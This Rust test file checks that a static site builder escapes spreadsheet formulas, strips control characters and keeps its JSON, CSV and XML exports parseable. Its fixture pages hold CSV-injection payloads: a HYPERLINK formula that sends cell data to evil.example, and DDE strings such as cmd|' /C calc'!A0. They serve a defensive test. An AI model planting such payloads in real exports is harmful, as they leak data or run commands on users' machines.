//! Machine-readable outputs of hostile content (issue 11): the shipped hub
//! with a news item and a city whose text is spreadsheet formulas, control
//! characters, quotes, commas, new lines and Unicode, built through the
//! binary. Every JSON, CSV and XML file of the output must parse; no CSV
//! text cell may start a formula; control characters are reported where
//! they are written and appear in no output.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::*;
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::Path;

/// A news item: formulas in text fields, a control character in the title
/// and summary (as YAML escapes) and in the body (raw), a refused
/// U+FFFF, quotes, commas, a new line and non-ASCII text.
const NEWS: &str = concat!(
    "---\n",
    r#"title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") \x01, \"quoted\", commas\nand Ålesund 東京 😀 \uFFFF""#,
    "\n",
    r#"summary: "-2+3+cmd|' /C calc'!A0 \u0002 ]]> <b>&amp;""#,
    "\n",
    "date: 2025-02-03\n",
    "kind: news\n",
    "author_org: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
    "projects: [up2030]\n",
    "cities: [hostile-town]\n",
    "sources:\n",
    "  - https://data.europa.eu/?q=a,b&c=%22d%22\n",
    "---\n",
    "Body with a control character \u{3} here, 1 < 2 & ampersand ]]> and \"quotes\".\n",
    "\n",
    "+Line starting with plus, about [Belfast](@/cities/belfast.md).\n",
);

/// What the title is once the control characters are gone (and the
/// space before the last one trimmed, like any title's).
const NEWS_TITLE: &str =
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") , \"quoted\", commas\nand Ålesund 東京 😀";

const TOWN: &str = concat!(
    "---\n",
    "title: \"+Hostile town\\t(tab), \\\"quotes\\\"\"\n",
    "country: \"-Nowhere\"\n",
    "country_code: GB\n",
    "summary: \"@SUM(1+1) in a summary\"\n",
    "lat: -33.9\n",
    "lon: -18.4\n",
    "---\n",
    "\tTab-led text. See [Belfast](@/cities/belfast.md).\n",
);

/// The shipped hub with the hostile pages, and a hub title holding a
/// control character (hub.yaml is trusted, but its text goes into feeds).
fn hostile_hub() -> tempfile::TempDir {
    let hub = shipped_hub();
    let content = hub.path().join("content");
    std::fs::write(content.join("dissemination/hostile-news.md"), NEWS).unwrap();
    std::fs::write(content.join("cities/hostile-town.md"), TOWN).unwrap();
    let config = hub.path().join("hub.yaml");
    let text = std::fs::read_to_string(&config).unwrap();
    let from = "title: Urban Planning & Design Cluster\n";
    assert!(text.contains(from));
    std::fs::write(
        &config,
        text.replacen(from, "title: \"Urban Planning & Design\\a Cluster\"\n", 1),
    )
    .unwrap();
    hub
}

fn build(hub: &Path) -> std::path::PathBuf {
    let out = hub.join("public");
    let run = clusterhub(&[
        "build",
        "--root",
        hub.to_str().unwrap(),
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    out
}

/// Whether a CSV cell would start a formula in a spreadsheet.
fn starts_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn control_characters_are_reported_where_they_are_written() {
    let hub = hostile_hub();
    let out = clusterhub(&[
        "check",
        "--format",
        "json",
        "--root",
        hub.path().to_str().unwrap(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "warnings only: {}",
        stderr(&out)
    );
    let all: Vec<Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let mut found: Vec<(String, u64, u64, String)> = all
        .iter()
        .map(|d| {
            assert_eq!(d["severity"], "warning", "{d}");
            assert_eq!(d["code"], "control-character", "{d}");
            (
                d["file"].as_str().unwrap().to_string(),
                d["line"].as_u64().unwrap(),
                d["column"].as_u64().unwrap(),
                d["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    found.sort();
    let news = "content/dissemination/hostile-news.md";
    assert_eq!(
        found,
        [
            (
                news.to_string(),
                2,
                8,
                "`title` contains the invisible control character U+0001, which is removed: feeds and the sitemap cannot carry it".to_string()
            ),
            (
                news.to_string(),
                3,
                10,
                "`summary` contains the invisible control character U+0002, which is removed: feeds and the sitemap cannot carry it".to_string()
            ),
            (
                news.to_string(),
                12,
                31,
                "the text contains the invisible control character U+0003, which is removed: feeds and the sitemap cannot carry it".to_string()
            ),
        ]
    );
}

#[test]
fn every_json_csv_and_xml_output_parses() {
    let hub = hostile_hub();
    let public = build(hub.path());
    let files = snapshot(&public);
    let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
    for (path, bytes) in &files {
        let ext = path.rsplit('.').next().unwrap_or("");
        match ext {
            "json" | "geojson" => {
                serde_json::from_slice::<Value>(bytes).unwrap_or_else(|e| panic!("{path}: {e}"));
            }
            "csv" => {
                let mut reader = csv::Reader::from_reader(bytes.as_slice());
                let header = reader.headers().unwrap().clone();
                for row in reader.records() {
                    let row = row.unwrap_or_else(|e| panic!("{path}: {e}"));
                    assert_eq!(row.len(), header.len(), "{path}");
                    for cell in &row {
                        assert!(
                            !starts_formula(cell) || cell.parse::<f64>().is_ok(),
                            "{path}: a formula cell {cell:?}"
                        );
                    }
                }
            }
            "xml" | "svg" => {
                let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{path}: {e}"));
                roxmltree::Document::parse(text).unwrap_or_else(|e| panic!("{path}: {e}"));
                if path.ends_with("atom.xml") {
                    feed_rs::parser::parse(bytes.as_slice())
                        .unwrap_or_else(|e| panic!("{path}: {e}"));
                }
            }
            _ => continue,
        }
        *counts.entry(ext).or_default() += 1;
    }
    // The exports, the feeds (a collection's and one per project), the
    // sitemap and the map were all among them.
    for (ext, at_least) in [
        ("json", 6),
        ("geojson", 1),
        ("csv", 5),
        ("xml", 6),
        ("svg", 1),
    ] {
        assert!(
            counts.get(ext).copied().unwrap_or(0) >= at_least,
            "{ext}: {counts:?}"
        );
    }
    assert!(files.contains_key("sitemap.xml"));
    assert!(files.contains_key("dissemination/atom.xml"));

    // The pages' control characters are in no output, HTML pages included;
    // the one in hub.yaml's title (trusted text, kept as written in HTML)
    // is in no XML file.
    let written = ["html", "json", "geojson", "csv", "xml", "svg"];
    for (path, bytes) in &files {
        if !written.iter().any(|ext| path.ends_with(&format!(".{ext}"))) {
            continue;
        }
        if let Ok(text) = std::str::from_utf8(bytes) {
            assert!(
                !text.contains(['\u{1}', '\u{2}', '\u{3}', '\u{ffff}']),
                "{path}"
            );
            let xml = path.ends_with(".xml") || path.ends_with(".svg");
            assert!(!(xml && text.contains('\u{7}')), "{path}");
        }
    }
}

#[test]
fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
    let hub = hostile_hub();
    let public = build(hub.path());
    let rows = |collection: &str| -> Vec<BTreeMap<String, String>> {
        let bytes = std::fs::read(public.join(format!("api/{collection}.csv"))).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        reader
            .records()
            .map(|r| {
                header
                    .iter()
                    .cloned()
                    .zip(r.unwrap().iter().map(String::from))
                    .collect()
            })
            .collect()
    };
    let news = rows("dissemination");
    let row = news.iter().find(|r| r["slug"] == "hostile-news").unwrap();
    assert_eq!(row["title"], format!("'{NEWS_TITLE}"));
    assert_eq!(row["summary"], "'-2+3+cmd|' /C calc'!A0 ]]> <b>&amp;");
    assert_eq!(row["author_org"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(row["cities"], "hostile-town");
    assert_eq!(row["sources"], "https://data.europa.eu/?q=a,b&c=%22d%22");
    assert_eq!(row["date"], "2025-02-03");

    let cities = rows("cities");
    let town = cities.iter().find(|r| r["slug"] == "hostile-town").unwrap();
    assert_eq!(town["title"], "'+Hostile town\t(tab), \"quotes\"");
    assert_eq!(town["country"], "'-Nowhere");
    assert_eq!(town["summary"], "'@SUM(1+1) in a summary");
    // Number fields are numbers we wrote: a negative one is no formula.
    assert_eq!(town["lat"], "-33.9");
    assert_eq!(town["lon"], "-18.4");
    let belfast = cities.iter().find(|r| r["slug"] == "belfast").unwrap();
    assert_eq!(belfast["lon"], "-5.93");

    // The JSON export has the same text, unquoted.
    let json: Value =
        serde_json::from_slice(&std::fs::read(public.join("api/dissemination.json")).unwrap())
            .unwrap();
    let page = json["pages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["slug"] == "hostile-news")
        .unwrap();
    assert_eq!(page["title"], NEWS_TITLE);
    assert_eq!(page["fields"]["author_org"], "@SUM(1+1)*cmd|' /C calc'!A0");
}

#[test]
fn feeds_carry_the_hostile_text_without_its_control_characters() {
    let hub = hostile_hub();
    let public = build(hub.path());
    for path in ["dissemination/atom.xml", "projects/up2030/atom.xml"] {
        let bytes = std::fs::read(public.join(path)).unwrap();
        let feed = feed_rs::parser::parse(bytes.as_slice()).unwrap();
        let title = feed.title.as_ref().map(|t| t.content.clone()).unwrap();
        assert!(
            title.starts_with("Urban Planning & Design Cluster – "),
            "{path}: the hub title without its bell character: {title:?}"
        );
        let entry = feed
            .entries
            .iter()
            .find(|e| e.links.iter().any(|l| l.href.ends_with("/hostile-news/")))
            .unwrap_or_else(|| panic!("{path} lists the news item"));
        assert_eq!(
            entry.title.as_ref().map(|t| t.content.as_str()),
            Some(NEWS_TITLE),
            "{path}"
        );
        let content = entry
            .content
            .as_ref()
            .and_then(|c| c.body.as_deref())
            .unwrap();
        assert!(
            content
                .contains("Body with a control character  here, 1 &lt; 2 &amp; ampersand ]]&gt;"),
            "{path}: {content}"
        );
    }
    let sitemap = std::fs::read_to_string(public.join("sitemap.xml")).unwrap();
    let doc = roxmltree::Document::parse(&sitemap).unwrap();
    let locs: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("loc"))
        .filter_map(|n| n.text())
        .collect();
    for url in [
        "https://up-cluster.github.io/clusterhub/dissemination/hostile-news/",
        "https://up-cluster.github.io/clusterhub/cities/hostile-town/",
    ] {
        assert!(locs.contains(&url), "{url} in the sitemap");
    }
}
